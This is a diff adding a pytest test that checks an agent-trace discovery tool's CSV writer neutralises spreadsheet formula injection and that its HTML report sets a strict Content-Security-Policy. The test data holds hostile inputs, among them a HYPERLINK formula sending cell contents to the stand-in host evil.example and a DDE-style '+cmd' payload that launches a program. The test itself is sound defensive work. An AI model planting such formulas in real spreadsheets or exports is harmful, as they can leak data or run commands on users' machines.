@@ -501,3 +501,31 @@ def test_discover_says_how_many_codes_and_candidates_were_dropped_for_each_reaso
     assert f"{coded['no_quote_dropped']} no quote" in line and "refused candidates:" in line
     page = (tmp_path / "out" / "report.html").read_text()
     assert "<h2>Dropped</h2>" in page and "quote not found in the trace" in page
+
+
+def test_the_sheet_goes_through_the_safe_csv_writer_and_the_report_carries_the_csp(tmp_path):
+    """A trace id or a model-named mode that opens a formula lands inert in sheet.csv; report.html has the strict CSP."""
+    from mast.discovery.models import Candidate
+    from mast.discovery.run import DiscoveryResult
+    from mast.discovery.write import report_html, sheet
+    from mast.trace import Step, Trace
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    trace = Trace(trace_id=hostile, steps=[Step(index=0, agent="a", content=hostile)])
+    candidate = Candidate(group=0, code="4.1", name="@SUM(1+1)", definition="+cmd|' /C calc'!A0", n_codes=2,
+                          n_traces=2, prevalence=0.5, cohesion=0.5)
+    path = sheet(tmp_path, [candidate], [trace], mast.load_taxonomy())
+    (row,) = list(csv.DictReader(path.open(newline="")))
+    assert row["trace_id"] == "'" + hostile and row["name"] == "'@SUM(1+1)"
+    assert row["definition"].startswith("'+cmd") and row["code"] == "4.1" and row["present"] == ""
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
+
+    manifest = {"traces": 1, "base_taxonomy": "mast-v3", "judge": {"model": "m"}, "split": {},
+                "annotator_kind": "k", "options": {"min_kappa": 0.4, "min_positives": 3}, "stages": {},
+                "totals": {"calls": 0, "cached": 0, "input_tokens": 0, "output_tokens": 0, "cost_usd": None}}
+    page = report_html(DiscoveryResult(output=Path("out"), candidates=[candidate], taxonomy=None, manifest=manifest,
+                                       stopped=None))
+    head = page.split("</head>")[0]
+    (policy,) = re.findall(r"<meta http-equiv='Content-Security-Policy' content=\"([^\"]+)\">", head)
+    assert "default-src &#x27;none&#x27;" in policy and "script-src &#x27;none&#x27;" in policy
+    assert head.index("Content-Security-Policy") < head.index("<style>")
